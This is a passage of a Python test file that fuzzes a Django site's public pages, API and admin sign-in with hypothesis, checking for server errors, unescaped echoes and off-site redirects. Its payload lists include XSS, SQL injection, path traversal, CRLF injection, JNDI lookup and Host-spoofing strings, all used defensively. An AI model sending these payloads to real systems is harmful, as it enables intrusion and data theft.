"""Hostile input: random and malicious requests to every public page and the admin sign-in.

hypothesis draws paths, query strings, headers (Accept-Language, Host, Cookie and more) and form
posts. Whatever it sends, the site answers below 500, never shows a script payload unescaped and
never redirects to another site. The default run draws few examples so that CI stays fast; the
long run sends the same properties at least 10,000 requests:

    .venv/bin/pytest -m perf tests/test_hostile_input.py -s
"""

import gzip
import io
import re
import string
import time
import traceback
from dataclasses import dataclass
from urllib.parse import quote_plus, unquote_to_bytes, urlencode

import pytest
from django.conf import settings as django_settings
from django.db import transaction
from django.http.request import split_domain_port, validate_host
from django.test import Client, override_settings
from django.test.client import BOUNDARY, MULTIPART_CONTENT, encode_multipart
from django.urls import URLResolver, get_resolver, reverse
from django.utils import translation
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from partners.models import Partner
from services.models import TargetGroup, Topic
from wzl_site.sitemaps import SITEMAPS

# --- What is requested ------------------------------------------------------------------------
# Every route of wzl_site.urls, by how this file sends hostile input to it. A new route that is
# in none of these fails test_every_route_of_the_site_is_on_the_hostile_input_list.

# The public pages, requested in every site language: URL name → the seeded model whose slug
# the address takes (None: no argument).
PAGES = {
    "home": None,
    "visit": None,
    "calendar": None,
    "calendar_feed": None,
    "services:topic_list": None,
    "services:topic_detail": Topic,
    "services:target_group_detail": TargetGroup,
    "services:material_list": None,
    "partners:partner_list": None,
    "partners:partner_detail": Partner,
    "impressum": None,
    "privacy": None,
    "accessibility": None,
    "accessibility_report": None,
    "easy_language": None,
    "sign_language": None,
    "search": None,
    "open_data": None,
}
# Of those, the public pages that take a form (POST): they answer it, not 405.
PUBLIC_FORMS = {"accessibility_report"}
# Public pages with a number in their address, requested in every site language (the seed has
# no material: the address answers 404, hostile input or not).
NUMBERED = {"services:material_file": {"pk": 1}}
# Public addresses with a file name in them, in no language (the seed has no video: 404).
NAMED_FILES = {"sign_language_video": {"name": "0123456789abcdef.webm"}}
# Public addresses without a language prefix: route name → the arguments of each address.
UNPREFIXED = {
    "sitemap": [{}],
    "sitemap_section": [{"section": section} for section in SITEMAPS],
    "robots": [{}],
    "health": [{}],
    "favicon": [{}],
}
# Of those, the addresses that answer with a redirect within the site (to a static file).
REDIRECTING = {"favicon"}
# The open-data API (no language prefix): route name → the seeded model whose slug the address
# takes (None: no argument). Its lists answer a malformed ?page= (page=abc) with 404.
API = {
    "api:schema": None,
    "api:hours": None,
    "api:hours-status": None,
    **{f"api:{kind}-list": None for kind in ["topic", "target-group", "partner"]},
    **{f"api:{kind}-list": None for kind in ["offer", "office", "material"]},
    "api:topic-detail": Topic,
    "api:target-group-detail": TargetGroup,
    "api:partner-detail": Partner,
}
# The forms anyone may post under /admin/: the sign-in and the password reset.
SIGN_IN_FORMS = {
    "admin:login": {},
    "admin_password_reset": {},
    "password_reset_confirm": {"uidb64": "MQ", "token": "abc-0123456789abcdef"},
}
SIGN_IN_PAGES = {"password_reset_done": {}, "password_reset_complete": {}}
# Behind the sign-in: anonymous visitors are sent to it (the admin's own pages are all in its
# namespace; its sign-in page is a form above).
# (the referral slip is the staff's form at the counter: signed-in staff only)
STAFF_ONLY = {"scoped_view_on_site", "referral_slip"}
STAFF_NAMESPACES = {"admin"}

# --- What is sent -----------------------------------------------------------------------------
# Script payloads put into every part of a request, and what would show one reached a page
# unescaped: its tag, with the "<".
MARKERS = (
    '<script>alert("x1")</script>',
    '"><svg onload=x>',
    "'><img src=x onerror=alert(2)>",
    "</title><script>alert(3)</script>",
)
TELLS = (b"<script>alert(", b"<svg onload=x", b"<img src=x onerror=")

FRAGMENTS = (
    *MARKERS,
    "//evil.example/",
    "/\\evil.example",
    "..",
    "../../../etc/passwd",
    "%2e%2e%2f",
    "%252e%252e",
    "%00",
    "\x00",
    "%0d%0aSet-Cookie:%20x=1",
    "\r\nSet-Cookie: x=1",
    "' OR '1'='1' --",
    "1; DROP TABLE services_topic;--",
    "{{ 7|add:7 }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/a}",
    "%",
    "%zz",
    "%c0%af",
    "\u202e",
    "\ufeff",
    "\U0001f600",
    "سكن",
    "a" * 5000,
    "\U0001f600" * 300,
    "\x7f\x1b[31m",
    "?#;&=+ \t",
)
fragments = st.sampled_from(FRAGMENTS)
hostile_text = st.one_of(
    fragments,
    st.text(max_size=40),
    st.lists(st.one_of(fragments, st.text(max_size=8)), min_size=2, max_size=4).map("".join),
)


def wsgi(text: str) -> str:
    """``text`` as a WSGI server hands it to Django: its UTF-8 bytes, one latin-1 character each."""
    return text.encode().decode("latin-1")


# Any bytes as a server passes them on (latin-1). NUL is left to FRAGMENTS: the site refuses
# it at once, and hypothesis would draw it so often that little else got tested.
raw_bytes = st.text(st.characters(min_codepoint=1, max_codepoint=255), max_size=60)
header_text = st.one_of(hostile_text.map(wsgi), raw_bytes)

SPECIAL_PATHS = (
    "",
    "/",
    "//",
    "//evil.example/",
    "//evil.example/%2e%2e",
    "/\\evil.example/",
    "/\\/evil.example/",
    "/de//evil.example/",
    "/de/../admin/",
    "/../../etc/passwd",
    "/./de/",
    "/de/./visit/",
    "/de/%2e%2e/admin/",
    "/de/\x00/",
    "/de/topics/" + "a" * 10_000 + "/",
    "/" + "ä" * 3000,
    "/de/topics/entry-and-residence/../../../admin/",
    "/static/../wzl_site/settings.py",
    "/admin/login/../../de/",
    "/de/calendar/hours.ics/..",
    "/sitemap.xml/",
    "/robots.txt/x",
    "/healthz/",
    "/de",
    "/xx/",
    "/zz-Latn/",
    "/de/topics/ÄÖÜ/",
    "/ar/topics/سكن/",
    "/de/partners/\xff\xfe/",
)


def paths(pages: list[str]):
    segment = st.one_of(hostile_text.map(wsgi), raw_bytes, st.sampled_from(["", ".", ".."]))
    below_a_page = st.builds(
        lambda base, segments, end: base + "/".join(segments) + end,
        st.sampled_from(["/", *pages]),
        st.lists(segment, min_size=1, max_size=4),
        st.sampled_from(["", "/"]),
    )
    return st.one_of(st.sampled_from([wsgi(path) for path in SPECIAL_PATHS]), below_a_page)


SPECIAL_QUERIES = (
    "page=abc",
    "page=-1",
    "page=99999999999999999999999",
    "page=1&page=2&page=abc",
    "page=1e3",
    "p=abc",
    "p=0",
    "p=99999",
    "q=" + "x" * 10_000,
    "x" * 10_000,
    "&" * 2000,
    "=&=&==",
    "%",
    "%zz=%zz",
    "a=%E0%A4%A",
    "%ff%fe=%c0%af",
    "next=//evil.example/",
    "next=javascript:alert(1)",
    "next=%2F%2Fevil.example%2F",
    "language=xx",
    "lang=ar&lang=de",
    "a=1;b=2",
    "format=json",
    "q=' OR '1'='1' --",
    "q=1; DROP TABLE services_topic;--",
    "q=" + quote_plus(MARKERS[0]),
    "utm_source=" + MARKERS[1],
    "&".join(["a=1"] * (django_settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)),
)
query_part = st.one_of(hostile_text.map(quote_plus), hostile_text.map(wsgi), raw_bytes)
query_pair = st.one_of(st.builds("{}={}".format, query_part, query_part), query_part)
query_strings = st.one_of(
    st.sampled_from(SPECIAL_QUERIES),
    st.lists(query_pair, max_size=6).map("&".join),
    st.builds(lambda pair, times: "&".join([pair] * times), query_pair, st.integers(2, 50)),
)

language_tags = st.one_of(
    st.sampled_from(
        [code for code, _name in django_settings.LANGUAGES]
        + ["de-DE", "en-GB", "ar-EG", "zh-Hant-TW", "sr-Latn-RS", "x-klingon", "i-default", "*"]
        + ["xx", "DE", "en_US", "de-", "-", "", "123", "a" * 100]
    ),
    st.from_regex(r"\A[A-Za-z]{1,8}(-[A-Za-z0-9]{1,8}){0,3}\Z"),
    hostile_text.map(wsgi),
)
qualities = st.one_of(
    st.none(),
    st.sampled_from(["1", "0", "0.5", "1.000", "-1", "2", "abc", "", "nan", "inf", "1e3", "0x1"]),
    hostile_text.map(wsgi),
)
accept_languages = st.one_of(
    st.lists(st.tuples(language_tags, qualities), max_size=8).map(
        lambda items: ",".join(tag if q is None else f"{tag};q={q}" for tag, q in items)
    ),
    st.sampled_from(["", ",", ";", ";q=", "de;q=0.5;q=1", "de," * 500, "a" * 10_000]),
    header_text,
)
hosts = st.one_of(
    st.sampled_from(
        [
            "testserver",
            "localhost",
            "127.0.0.1",
            "localhost:8000",
            "[::1]",
            "[::1]:8000",
            "evil.example",
            "evil.example:80",
            "testserver:0",
            "testserver:99999",
            "TESTSERVER",
            "testserver.",
            "",
            " ",
            "localhost:<script>",
            *MARKERS,
            "a" * 300,
            "::1",
            "testserver, evil.example",
            "testserver/evil",
            "testserver@evil.example",
            "127.0.0.1:8000:80",
            "localhost\r\nX-Injected: 1",
            "[::1",
            "localhost:",
            ":80",
        ]
    ),
    st.from_regex(r"\A[a-z0-9.-]{0,30}(:[0-9]{0,6})?\Z"),
    header_text,
)
COOKIE_NAMES = ("sessionid", "csrftoken", "django_language", "messages", "SESSIONID", "sessionid ")
COOKIE_VALUES = (
    *("", "x" * 32, "a" * 64, "x" * 5000, '"', '"quoted"', "\\", '\\"', "=", "a=b=c", ","),
    *("\x00", "abc\x00def", "\x7f", "\x80", "\xff\xfe", "%00", "1:2:3", ".eJy:1:abc", ".."),
    *("de", "ar", "xx", "de;", "null", MARKERS[0]),
)
cookies = st.one_of(
    st.lists(
        st.tuples(
            st.one_of(st.sampled_from(COOKIE_NAMES), hostile_text.map(wsgi)),
            st.one_of(st.sampled_from(COOKIE_VALUES), header_text),
        ),
        max_size=5,
    ).map(lambda pairs: "; ".join(f"{name}={value}" for name, value in pairs)),
    header_text,
)
# Values other headers take, well-formed or not.
HEADER_VALUES = (
    *("gzip", "gzip, deflate, br", "*", '"abc"', 'W/"x"', "bytes=0-10", "bytes=-1"),
    *("Thu, 01 Jan 1970 00:00:00 GMT", "Mon, 99 Foo 9999 99:99:99 GMT", "https", "http"),
    *("XMLHttpRequest", "1.2.3.4", "1.2.3.4, evil", "text/html", "*/*", "application/json"),
    *("Basic Zm9vOmJhcg==", "https://evil.example", "null", "evil.example"),
)
OTHER_HEADERS = (
    "HTTP_USER_AGENT",
    "HTTP_REFERER",
    "HTTP_ORIGIN",
    "HTTP_ACCEPT",
    "HTTP_ACCEPT_ENCODING",
    "HTTP_IF_NONE_MATCH",
    "HTTP_IF_MODIFIED_SINCE",
    "HTTP_X_FORWARDED_FOR",
    "HTTP_X_FORWARDED_HOST",
    "HTTP_X_FORWARDED_PROTO",
    "HTTP_RANGE",
    "HTTP_X_REQUESTED_WITH",
    "HTTP_AUTHORIZATION",
)
other_header = st.one_of(st.sampled_from(HEADER_VALUES), header_text)
headers = st.fixed_dictionaries(
    {},
    optional={
        "HTTP_ACCEPT_LANGUAGE": accept_languages,
        "HTTP_HOST": hosts,
        "HTTP_COOKIE": cookies,
        **dict.fromkeys(OTHER_HEADERS, other_header),
    },
)
# The same without Host and Origin, so that the request reaches the page or the form's CSRF
# check looks at the token.
headers_of_this_site = st.fixed_dictionaries(
    {},
    optional={
        "HTTP_ACCEPT_LANGUAGE": accept_languages,
        "HTTP_COOKIE": cookies,
        **{name: other_header for name in OTHER_HEADERS if name != "HTTP_ORIGIN"},
    },
)
some_headers = st.one_of(st.just({}), headers_of_this_site, headers)
# Mostly GET, the method every visitor and crawler sends; then everything else.
METHODS = (*["GET"] * 6, "HEAD", "OPTIONS", "POST", "PUT", "DELETE", "PATCH", "TRACE", "PROPFIND")
methods = st.sampled_from([*METHODS, "CONNECT", "get", "FOO"])

FIELD_NAMES = (
    *("username", "password", "csrfmiddlewaretoken", "next", "email", "q", "page"),
    *("new_password1", "new_password2", "this_is_the_login_form", "_method", "language"),
)
field_names = st.one_of(st.sampled_from(FIELD_NAMES), hostile_text)
field_values = st.one_of(
    hostile_text, st.sampled_from(["", "admin", "x@example.org", "a" * 10_000, "\x00"])
)
CONTENT_TYPES = (
    "",
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "multipart/form-data; boundary=x",
    'multipart/form-data; boundary="<script>"',
    "multipart/form-data; boundary=" + "b" * 300,
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=no-such-charset",
    "application/json",
    "text/plain",
    "text/html; charset=latin-1",
    "application/octet-stream",
)
raw_bodies = st.one_of(
    st.binary(max_size=2000),
    hostile_text.map(str.encode),
    st.just(b"a=" + b"x" * django_settings.MAX_REQUEST_BODY),  # over the public pages' limit
)


def upload(name: str, content: bytes) -> io.BytesIO:
    file = io.BytesIO(content)
    file.name = name
    return file


@dataclass(frozen=True)
class Form:
    """A form post: multipart, urlencoded (``fields`` and ``files``), or any ``raw`` body."""

    kind: str
    fields: tuple[tuple[str, str], ...] = ()
    files: tuple[tuple[str, str, bytes], ...] = ()  # (field, file name, content)
    raw: bytes = b""
    raw_type: str = ""

    def encode(self, fields: list[tuple[str, str]] = ()) -> tuple[bytes, str]:
        """The body and content type, with ``fields`` first (raw bodies ignore them)."""
        if self.kind == "raw":
            return self.raw, self.raw_type
        pairs = [*fields, *self.fields]
        if self.kind == "urlencoded":
            return urlencode(pairs).encode(), "application/x-www-form-urlencoded"
        data: dict[str, list] = {}
        for name, value in pairs:
            data.setdefault(name, []).append(value)
        for name, filename, content in self.files:
            data.setdefault(name, []).append(upload(filename, content))
        return encode_multipart(BOUNDARY, data), MULTIPART_CONTENT


form_fields = st.lists(st.tuples(field_names, field_values), max_size=6).map(tuple)
forms = st.one_of(
    st.builds(Form, st.just("urlencoded"), form_fields),
    st.builds(
        Form,
        st.just("multipart"),
        form_fields,
        st.lists(st.tuples(field_names, hostile_text, st.binary(max_size=200)), max_size=2).map(
            tuple
        ),
    ),
    st.builds(
        Form,
        st.just("raw"),
        raw=raw_bodies,
        raw_type=st.one_of(st.sampled_from(CONTENT_TYPES), hostile_text.map(wsgi)),
    ),
)


# --- How it is sent and checked ---------------------------------------------------------------

FAST_EXAMPLES = 40  # per property in the default run
LONG_EXAMPLES = 2_100  # per property in the long run: five properties, over 10,000 requests
SENT = {"requests": 0}


def hostile(examples: int):
    """hypothesis settings for one property: no example database in the repository, no
    deadline (the first request of a run renders templates for the first time)."""
    return settings(
        max_examples=examples,
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )


def send(client: Client, method: str, path: str, *, query="", body=b"", content_type="", **meta):
    """One request, as a WSGI server would hand it to Django (``path`` already decoded)."""
    client.cookies.clear()  # only the cookies the example chose
    SENT["requests"] += 1
    return client.generic(
        method, "/", body, content_type=content_type, PATH_INFO=path, QUERY_STRING=query, **meta
    )


def body_of(response) -> bytes:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if response.get("Content-Encoding") == "gzip" and body:
        body = gzip.decompress(body)
    return body


def shown(value, limit=300) -> str:
    text = repr(value)
    return text if len(text) <= limit else f"{text[:limit]}… ({len(text)} characters)"


def assert_safe(response, **request) -> None:
    """No server error, no script payload unescaped, no redirect to another site."""
    sent = ", ".join(f"{key}={shown(value)}" for key, value in request.items())
    error = "".join(traceback.format_exception(*response.exc_info)) if response.exc_info else ""
    assert response.status_code < 500, f"{response.status_code} for {sent}\n{error}"
    body = body_of(response).lower()
    echoed = [tell for tell in TELLS if tell in body]
    assert not echoed, f"{echoed} unescaped in the {response.status_code} answer to {sent}"
    location = re.sub(r"[\t\r\n]", "", response.get("Location", "/"))
    assert location.startswith("/") and not location.startswith(("//", "/\\")), (
        f"redirect to {location!r} for {sent}"
    )


def host_allowed(host: str) -> bool:
    """Whether Django accepts ``host`` as the request's Host header (HttpRequest.get_host)."""
    domain, _port = split_domain_port(host)
    return bool(domain) and validate_host(domain, django_settings.ALLOWED_HOSTS)


# --- The properties ---------------------------------------------------------------------------


def hostile_paths(urls: dict[str, list[str]], examples: int) -> None:
    client = Client(raise_request_exception=False)

    @hostile(examples)
    @given(method=methods, path=paths(urls["pages"]), meta=some_headers)
    def prop(method, path, meta):
        response = send(client, method, path, **meta)
        assert_safe(response, method=method, path=path, **meta)

    prop()


def hostile_query_strings(urls: dict[str, list[str]], examples: int) -> None:
    client = Client(raise_request_exception=False)

    @hostile(examples)
    @given(
        method=st.sampled_from(["GET", "GET", "HEAD"]),
        path=st.sampled_from(urls["pages"] + urls["sign-in"]),
        query=query_strings,
        meta=some_headers,
    )
    def prop(method, path, query, meta):
        response = send(client, method, path, query=query, **meta)
        assert_safe(response, method=method, path=path, query=query, **meta)

    prop()


def hostile_headers(urls: dict[str, list[str]], examples: int) -> None:
    client = Client(raise_request_exception=False)

    @hostile(examples)
    @given(
        method=st.sampled_from(["GET", "GET", "HEAD"]),
        path=st.sampled_from(urls["pages"] + urls["sign-in"]),
        meta=st.one_of(headers_of_this_site, headers),
    )
    def prop(method, path, meta):
        response = send(client, method, path, **meta)
        assert_safe(response, method=method, path=path, **meta)
        if "HTTP_HOST" in meta and not host_allowed(meta["HTTP_HOST"]):
            assert response.status_code == 400, f"{response.status_code} for Host {meta}"

    prop()


def hostile_posts_to_public_pages(urls: dict[str, list[str]], examples: int) -> None:
    client = Client(raise_request_exception=False)

    @hostile(examples)
    @given(
        method=st.sampled_from(["POST", "POST", "POST", "PUT", "PATCH", "DELETE"]),
        path=st.sampled_from([path for path in urls["pages"] if path not in urls["public-forms"]]),
        query=st.one_of(st.just(""), query_strings),
        form=forms,
        meta=some_headers,
    )
    def prop(method, path, query, form, meta):
        body, content_type = form.encode()
        response = send(
            client, method, path, query=query, body=body, content_type=content_type, **meta
        )
        request = dict(method=method, path=path, query=query, body=body, type=content_type)
        assert_safe(response, **request, **meta)
        assert 400 <= response.status_code < 500, f"{response.status_code} for {request}"
        if form.kind != "raw" and not meta and b"\x00" not in unquote_to_bytes(query):
            # Nothing else wrong with the request: the page does not take forms.
            assert response.status_code == 405, f"{response.status_code} for {request}"

    prop()


# The barrier report form again (with its errors), a redirect to the thanks, a refused request
# (400: malformed, 405: a method it does not take, 413: too large) or too many reports (429).
REPORT_ANSWERS = {200, 302, 400, 405, 413, 429}


def hostile_barrier_reports(urls: dict[str, list[str]], examples: int) -> None:
    """Hostile fields in the barrier report form, with a time that passes its check or not."""
    from wzl_site.forms import started_token

    client = Client(raise_request_exception=False)

    @hostile(examples)
    @given(
        method=st.sampled_from(["POST", "POST", "POST", "PUT"]),
        path=st.sampled_from(urls["public-forms"]),
        query=st.one_of(st.just(""), query_strings),
        message=hostile_text,
        page=hostile_text,
        email=st.one_of(st.just(""), st.just("someone@example.org"), hostile_text),
        trap=st.one_of(st.just(""), hostile_text),
        started=st.one_of(
            st.builds(lambda age: started_token(at=time.time() - age), st.integers(-60, 10**6)),
            hostile_text,
        ),
        form=forms,
        meta=some_headers,
    )
    def prop(method, path, query, message, page, email, trap, started, form, meta):
        fields = [("message", message), ("page", page), ("email", email)]
        fields += [("website", trap), ("started", started)]
        body, content_type = form.encode(fields)
        response = send(
            client, method, path, query=query, body=body, content_type=content_type, **meta
        )
        request = dict(method=method, path=path, query=query, body=body, type=content_type)
        assert_safe(response, **request, **meta)
        assert response.status_code in REPORT_ANSWERS, f"{response.status_code} for {request}"

    with override_settings(BARRIER_REPORTS_PER_HOUR=10**9):
        prop()


SIGN_IN_TOKEN = "a" * 32  # a CSRF secret: the cookie, and the same value in the form
csrf_tokens = st.text(string.ascii_letters + string.digits, min_size=32, max_size=32)
usernames = st.one_of(st.sampled_from(["admin", "", "a" * 151, "admin\x00"]), hostile_text)
# The sign-in form again, a redirect (password reset sent), a refused request (400: malformed,
# 403: no valid CSRF token, 413: too large) or django-axes' lockout page (429).
SIGN_IN_ANSWERS = {200, 302, 400, 403, 413, 429}


def hostile_sign_in_posts(urls: dict[str, list[str]], examples: int) -> None:
    client = Client(raise_request_exception=False, enforce_csrf_checks=True)

    @hostile(examples)
    @given(
        path=st.sampled_from(urls["forms"]),
        query=st.one_of(st.just(""), query_strings),
        username=usernames,
        password=hostile_text,
        token=csrf_tokens,
        csrf=st.sampled_from(["field", "field", "header", "none", "mismatch", "cookie only"]),
        form=forms,
        meta=st.one_of(headers_of_this_site, headers),
        address=st.ip_addresses().map(str),
    )
    # Found by this property: a 500 on PostgreSQL until django-axes' records get usernames cut
    # to 255 characters (see test_a_failed_sign_in_with_a_username_over_255_characters…).
    @example(
        path="/admin/login/",
        query="",
        username="a" * 256,
        password="wrong",
        token=SIGN_IN_TOKEN,
        csrf="field",
        form=Form("urlencoded"),
        meta={},
        address="192.0.2.1",
    )
    def prop(path, query, username, password, token, csrf, form, meta, address):
        fields = [("username", username), ("password", password), ("email", username)]
        fields += [("new_password1", password), ("new_password2", password)]
        if csrf in ("field", "mismatch"):
            fields.append(("csrfmiddlewaretoken", token if csrf == "field" else token[::-1]))
        body, content_type = form.encode(fields)
        meta = dict(meta, REMOTE_ADDR=address)
        if csrf != "none":
            meta["HTTP_COOKIE"] = f"csrftoken={token}; " + meta.get("HTTP_COOKIE", "")
        if csrf == "header":
            meta["HTTP_X_CSRFTOKEN"] = token
        response = send(
            client, "POST", path, query=query, body=body, content_type=content_type, **meta
        )
        request = dict(path=path, query=query, body=body, type=content_type)
        assert_safe(response, **request, **meta)
        assert response.status_code in SIGN_IN_ANSWERS, f"{response.status_code} for {request}"

    prop()


PROPERTIES = (
    hostile_paths,
    hostile_query_strings,
    hostile_headers,
    hostile_posts_to_public_pages,
    hostile_barrier_reports,
    hostile_sign_in_posts,
)

# --- Tests ------------------------------------------------------------------------------------


def site_routes(resolver=None, namespace="", prefix=""):
    """(namespace, name or, if unnamed, route) of every route of wzl_site.urls."""
    for pattern in (resolver or get_resolver()).url_patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from site_routes(pattern, inner, route)
        else:
            yield namespace.split(":")[0], f"{namespace}{pattern.name}" if pattern.name else route


def test_every_route_of_the_site_is_on_the_hostile_input_list():
    listed = {
        *PAGES,
        *NUMBERED,
        *NAMED_FILES,
        *UNPREFIXED,
        *API,
        *SIGN_IN_FORMS,
        *SIGN_IN_PAGES,
        *STAFF_ONLY,
    }
    routes = {name for namespace, name in site_routes() if namespace not in STAFF_NAMESPACES} | {
        name for name in listed if name.split(":")[0] in STAFF_NAMESPACES
    }
    missing = sorted(routes - listed)
    assert not missing, f"add these routes to the hostile-input lists in {__name__}: {missing}"
    assert not listed - routes, f"routes that no longer exist: {sorted(listed - routes)}"


@pytest.fixture(scope="module")
def seeded(django_db_setup, django_db_blocker):
    """The WZL's real content, as the seed_content fixture loads it, but once for the module:
    loading takes seconds, and hostile requests only read it (rolled back at the end)."""
    from wzl_site.operations import content_load

    with django_db_blocker.unblock(), transaction.atomic():
        content_load()
        yield
        transaction.set_rollback(True)


@pytest.fixture
def urls(seeded, db) -> dict[str, list[str]]:
    """Every public page in every site language, the unprefixed addresses and the sign-in's."""
    slugs = {
        model: model.objects.published().first().slug for model in (Topic, TargetGroup, Partner)
    }
    pages, numbered, public_forms = ["/"], [], []
    for code, _name in django_settings.LANGUAGES:
        with translation.override(code):
            for name, model in PAGES.items():
                pages.append(reverse(name, kwargs={"slug": slugs[model]} if model else None))
            numbered += [reverse(name, kwargs=kwargs) for name, kwargs in NUMBERED.items()]
            public_forms += [reverse(name) for name in PUBLIC_FORMS]
    pages += [reverse(name, kwargs=kwargs) for name, each in UNPREFIXED.items() for kwargs in each]
    numbered += [reverse(name, kwargs=kwargs) for name, kwargs in NAMED_FILES.items()]
    api = {
        name: reverse(name, kwargs={"slug": slugs[model]} if model else None)
        for name, model in API.items()
    }
    pages += api.values()
    forms = [reverse(name, kwargs=kwargs or None) for name, kwargs in SIGN_IN_FORMS.items()]
    others = [reverse(name, kwargs=kwargs or None) for name, kwargs in SIGN_IN_PAGES.items()]
    pages += numbered
    return {
        "pages": pages,
        "numbered": numbered,
        "public-forms": public_forms,
        "paginated": [path for name, path in api.items() if name.endswith("-list")],
        "forms": forms,
        "sign-in": forms + others,
    }


def test_every_public_page_answers_hostile_input_in_every_language(urls):
    """Each address once, with payloads in its query string and odd headers: the page as usual,
    the payloads never unescaped."""
    client = Client(raise_request_exception=False)
    query = "&".join(f"q{n}={quote_plus(marker)}" for n, marker in enumerate(MARKERS))
    meta = {
        "HTTP_ACCEPT_LANGUAGE": MARKERS[0] + ";q=abc,,*;q=-1",
        "HTTP_COOKIE": "sessionid=\x7f\xff" + MARKERS[1] + "; csrftoken=%00; django_language=xx",
        "HTTP_REFERER": MARKERS[2],
        "HTTP_USER_AGENT": MARKERS[3],
    }
    for path in urls["pages"] + urls["sign-in"]:
        response = send(client, "GET", path, query=query + "&page=abc", **meta)
        assert_safe(response, path=path)
        redirecting = path == "/" or path in {reverse(name) for name in REDIRECTING}
        expected = (
            302 if redirecting else 404 if path in urls["numbered"] + urls["paginated"] else 200
        )
        assert response.status_code == expected, path


def test_a_payload_that_reaches_a_page_is_shown_escaped_and_an_unescaped_one_is_caught(client, db):
    response = client.get("/admin/login/", {"next": MARKERS[0]})
    assert response.status_code == 200
    assert "&lt;script&gt;alert(&quot;x1&quot;)&lt;/script&gt;" in response.content.decode()
    assert_safe(response)
    response.content = b"<p>" + MARKERS[1].encode() + b"</p>"
    with pytest.raises(AssertionError, match="unescaped"):
        assert_safe(response)


@pytest.mark.parametrize("prop", PROPERTIES, ids=lambda prop: prop.__name__)
def test_hostile_requests_never_give_a_server_error_or_an_unescaped_echo(urls, prop):
    prop(urls, FAST_EXAMPLES)


@pytest.mark.perf
def test_a_long_run_of_hostile_requests(urls):
    started, before = time.monotonic(), SENT["requests"]
    for prop in PROPERTIES:
        prop(urls, LONG_EXAMPLES)
    sent = SENT["requests"] - before
    print(f"\n{sent} hostile requests in {time.monotonic() - started:.0f} s")
    assert sent >= 10_000


# --- Defects the properties found, each with the request that showed it ------------------------


def sign_in_post(client: Client, **meta):
    return client.post(
        "/admin/login/",
        {"username": "someone", "password": "wrong", "csrfmiddlewaretoken": SIGN_IN_TOKEN},
        HTTP_COOKIE=f"csrftoken={SIGN_IN_TOKEN}",
        **meta,
    )


@pytest.mark.django_db
@pytest.mark.parametrize("header", ["HTTP_USER_AGENT", "HTTP_ACCEPT"])
def test_a_failed_sign_in_with_a_nul_byte_in_a_header_is_refused(header):
    """django-axes records the User-Agent and Accept of a failed sign-in; PostgreSQL cannot
    store a NUL byte, so this was a 500 there (wzl_site/middleware.py now refuses it)."""
    from axes.models import AccessAttempt

    client = Client(raise_request_exception=False, enforce_csrf_checks=True)
    assert sign_in_post(client, **{header: "Mozilla/5.0"}).status_code == 200
    assert AccessAttempt.objects.count() == 1
    assert sign_in_post(client, **{header: "Mozilla\x00/5.0"}).status_code == 400
    assert AccessAttempt.objects.get().failures_since_start == 1


@pytest.mark.django_db
@pytest.mark.parametrize("charset", ["utf-16", "utf8", "latin-1"])
def test_a_sign_in_post_urlencoded_in_another_charset_than_utf_8_is_a_client_error(charset):
    """Django refuses to read such a body each time it is asked, its 400 and 500 pages' CSRF
    checks included: the error escaped Django, so gunicorn answered 500 (wzl_site/middleware.py
    now refuses it first)."""
    client = Client(raise_request_exception=False, enforce_csrf_checks=True)
    response = client.generic(
        "POST",
        "/admin/login/",
        urlencode({"username": "someone", "password": "wrong"}).encode(),
        content_type=f"application/x-www-form-urlencoded; charset={charset}",
        HTTP_COOKIE=f"csrftoken={SIGN_IN_TOKEN}",
    )
    assert response.status_code == 400


@pytest.mark.django_db
def test_a_failed_sign_in_with_a_username_over_255_characters_shows_the_form_again():
    """Fails on PostgreSQL until django-axes records at most 255 characters of the username.

    The admin's sign-in form does not bound the username (its max_length only sets the input's
    attribute), and django-axes stores it in a varchar(255): PostgreSQL refuses the row and the
    sign-in ends in a 500 (jazzband/django-axes#1381, open; scanners send such names). SQLite
    stores the whole name and shows the form."""
    client = Client(raise_request_exception=False, enforce_csrf_checks=True)
    response = client.post(
        "/admin/login/",
        {"username": "a" * 256, "password": "wrong", "csrfmiddlewaretoken": SIGN_IN_TOKEN},
        HTTP_COOKIE=f"csrftoken={SIGN_IN_TOKEN}",
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 200
    assert "Please enter the correct username and password" in response.content.decode()


# A multipart part whose headers exceed the 10 KB Django's parser allows: it raises an error.
OVERSIZED_PART = encode_multipart(BOUNDARY, {"a" * 11_000: "x"})


@pytest.mark.django_db
def test_a_malformed_multipart_post_with_a_foreign_host_is_a_client_error():
    """Django's 400 page for the foreign Host runs the CSRF check, which parsed the body: the
    parser's error made it a 500 (wzl_site/middleware.py now refuses the Host first)."""
    client = Client(raise_request_exception=False, enforce_csrf_checks=True)
    response = client.generic(
        "POST",
        "/admin/login/",
        OVERSIZED_PART,
        content_type=MULTIPART_CONTENT,
        HTTP_HOST="[::1]",
        HTTP_COOKIE=f"csrftoken={SIGN_IN_TOKEN}",
    )
    assert response.status_code == 400


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/admin/login/", "/de/"])
@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        (OVERSIZED_PART, MULTIPART_CONTENT),
        (b"a=1", "application/x-www-form-urlencoded; charset=utf-16"),
    ],
    ids=["oversized multipart part", "urlencoded in UTF-16"],
)
def test_with_ssl_redirect_a_malformed_post_with_a_foreign_host_is_a_client_error(
    settings, path, body, content_type
):
    """Fails until wzl_site/urls.py sets a ``handler400`` that skips Django's CSRF check.

    With SECURE_SSL_REDIRECT (the README's production settings; port 8000 is published, so a
    plain-HTTP request reaches gunicorn), SecurityMiddleware asks for the Host before
    RequestLimitsMiddleware runs. Django's 400 page (``requires_csrf_token``) then parses the
    body: the parser's error becomes a 500, on any path, or escapes Django altogether."""
    settings.SECURE_SSL_REDIRECT = True
    client = Client(raise_request_exception=False, enforce_csrf_checks=True)
    response = client.generic(
        "POST",
        path,
        body,
        content_type=content_type,
        HTTP_HOST="evil.example",
